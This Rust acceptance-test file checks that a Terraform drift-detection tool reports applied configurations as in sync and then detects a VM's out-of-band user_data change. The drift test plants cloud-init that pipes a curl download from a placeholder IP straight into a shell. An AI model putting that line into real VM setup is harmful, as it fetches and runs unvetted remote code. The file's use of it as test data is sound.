//! Whole configurations applied by the real Terraform 1.15.5, then reconciled: `novacron-reconcile drift` must see exactly what Terraform made.
//!
//! Each configuration under `acceptance/fixtures/configs/<name>/` is written the way engineers
//! write HCL (modules with `count` and `for_each`, nested modules, tfvars and auto.tfvars, typed
//! variables with `optional()` defaults, `file()` / `templatefile()` user data, dynamic blocks,
//! data sources). One `terraform apply` per configuration; the same files are committed to a
//! real git repository and the drift run over it must report every resource in sync, with no
//! unknown values. The first configuration then has a VM's `user_data` (read by `file()`)
//! changed out of band, which must show as drift.

use std::path::{Path, PathBuf};
use std::process::Command;

use novacron_acceptance::platform::API_KEY;
use novacron_acceptance::{InstallMode, Suite, TestPlatform, TfVersion};
use novacron_client::Kind;
use novacron_reconcile::command::{DriftOptions, run_drift};
use novacron_reconcile::live::ClientApi;
use novacron_reconcile::report::{DriftReport, Status};
use serde_json::json;

/// The configurations need `optional()` defaults (Terraform >= 1.3), so they run on 1.15.5 only.
const VERSION: TfVersion = TfVersion::V1_15_5;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn shop_modules_with_count_and_for_each_reconcile_clean_then_user_data_drifts() {
    let Some(run) = Applied::new("shop", 5).await else { return };
    let vm = run.platform.object_named(Kind::Vm, "prod-shop-web-0").await;
    let before = run.drift().await;
    run.assert_clean(&before);
    // `user_data` came from file("files/cloud-init.yaml"); the platform keeps only its hash.
    let changed = json!({"user_data": "#cloud-config\nruncmd:\n  - curl -s http://198.51.100.7/x | sh\n"});
    if let Err(e) = run.platform.client().patch(Kind::Vm, vm.id(), &changed, None).await {
        panic!("changing user_data out of band: {e}");
    }
    let after = run.drift().await;
    assert_eq!((after.summary.drifted, after.summary.in_sync, after.summary.missing, after.summary.unmanaged), (1, 4, 0, 0), "{}", describe(&after));
    let drifted = after.resources.iter().find(|r| r.status == Status::Drifted).expect("one drifted resource");
    assert_eq!(drifted.address, "module.web[0].novacron_vm.this");
    let paths: Vec<&str> = drifted.changes.iter().map(|c| c.path.as_str()).collect();
    assert_eq!(paths, ["user_data"], "{}", describe(&after));
    assert!(drifted.changes[0].sensitive, "user_data is reported as a sensitive change");
    run.platform.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn fleet_nested_modules_with_templatefile_reconcile_clean() {
    let Some(run) = Applied::new("fleet", 6).await else { return };
    let report = run.drift().await;
    run.assert_clean(&report);
    assert!(report.resources.iter().any(|r| r.address == "module.region[\"eu\"].module.vm[\"worker\"].novacron_vm.this"), "{}", describe(&report));
    run.platform.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn edge_for_expressions_data_sources_and_json_syntax_reconcile_clean() {
    let Some(run) = Applied::new("edge", 6).await else { return };
    let report = run.drift().await;
    run.assert_clean(&report);
    run.platform.shutdown().await;
}

/// A configuration applied to its own platform, and committed to a git repository.
struct Applied {
    platform: TestPlatform,
    repo: tempfile::TempDir,
    cache: tempfile::TempDir,
    expected: usize,
}

impl Applied {
    /// Applies `acceptance/fixtures/configs/<name>` (which makes `expected` objects) and commits
    /// it; `None` when the suite is skipped.
    async fn new(name: &str, expected: usize) -> Option<Applied> {
        let suite = Suite::for_version(&format!("reconcile_{name}"), VERSION)?;
        let platform = TestPlatform::start().await;
        let files = fixture_files(name);
        // A mirror, not dev overrides: `terraform init` must run anyway to install the local modules.
        let tf = suite.terraform(VERSION, InstallMode::FilesystemMirror, &platform.endpoint());
        write_all(tf.dir(), &files);
        tf.init().await;
        tf.apply().await;
        let made = platform.managed_objects().await;
        assert_eq!(made.len(), expected, "{name}: terraform apply made {} objects: {made:?}", made.len());
        let repo = tempfile::tempdir().expect("repo dir");
        write_all(repo.path(), &files);
        git(repo.path(), &["init", "-q"]);
        git(repo.path(), &["add", "."]);
        git(repo.path(), &["commit", "-q", "-m", &format!("{name}: desired state")]);
        let cache = tempfile::tempdir().expect("cache dir");
        Some(Applied { platform, repo, cache, expected })
    }

    async fn drift(&self) -> DriftReport {
        let options = DriftOptions {
            repo: self.repo.path().display().to_string(),
            reference: None,
            path: ".".into(),
            vars: vec![],
            ignore: vec![],
            cache_dir: self.cache.path().to_path_buf(),
            tfstate: None,
            workspace: None,
            http_address: None,
            progress: Default::default(),
            clock: Default::default(),
        };
        let api = ClientApi::new(&self.platform.endpoint(), API_KEY).expect("platform client");
        run_drift(&options, &api).await.unwrap_or_else(|e| panic!("drift: {e}"))
    }

    fn assert_clean(&self, report: &DriftReport) {
        let s = &report.summary;
        assert_eq!((s.resources, s.in_sync, s.drifted, s.missing, s.unmanaged), (self.expected, self.expected, 0, 0, 0), "{}", describe(report));
        assert!(report.warnings.is_empty(), "the drift run left values unknown or ignored:\n{}", report.warnings.join("\n"));
        assert!(report.resources.iter().all(|r| r.unknown.is_empty()), "{}", describe(report));
    }
}

/// The report in a few lines: every resource with its status, changes and unknowns, then the warnings.
fn describe(report: &DriftReport) -> String {
    let mut out: Vec<String> = report
        .resources
        .iter()
        .map(|r| {
            let changes: Vec<String> = r.changes.iter().map(|c| c.path.clone()).collect();
            format!("{} {:?} changes={changes:?} unknown={:?}", r.address, r.status, r.unknown)
        })
        .collect();
    out.extend(report.warnings.iter().map(|w| format!("warning: {w}")));
    out.join("\n")
}

/// Every file of a fixture configuration, as (relative path, text), sorted.
fn fixture_files(name: &str) -> Vec<(PathBuf, String)> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures").join("configs").join(name);
    let mut out = Vec::new();
    let mut dirs = vec![root.clone()];
    while let Some(dir) = dirs.pop() {
        let entries = std::fs::read_dir(&dir).unwrap_or_else(|e| panic!("{}: {e}", dir.display()));
        for entry in entries {
            let path = entry.expect("directory entry").path();
            if path.is_dir() {
                dirs.push(path);
            } else {
                let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
                out.push((path.strip_prefix(&root).expect("under the fixture").to_path_buf(), text));
            }
        }
    }
    assert!(!out.is_empty(), "{} holds no files", root.display());
    out.sort();
    out
}

fn write_all(dir: &Path, files: &[(PathBuf, String)]) {
    for (rel, text) in files {
        let path = dir.join(rel);
        if let Some(parent) = path.parent() {
            std::fs::create_dir_all(parent).unwrap_or_else(|e| panic!("{}: {e}", parent.display()));
        }
        std::fs::write(&path, text).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    }
}

/// Runs `git` with a fixed identity; panics with its stderr on failure.
fn git(dir: &Path, args: &[&str]) {
    let out = Command::new("git")
        .args(["-c", "user.name=Test", "-c", "user.email=test@example.com", "-c", "init.defaultBranch=main"])
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap_or_else(|e| panic!("git cannot start: {e}"));
    assert!(out.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&out.stderr));
}
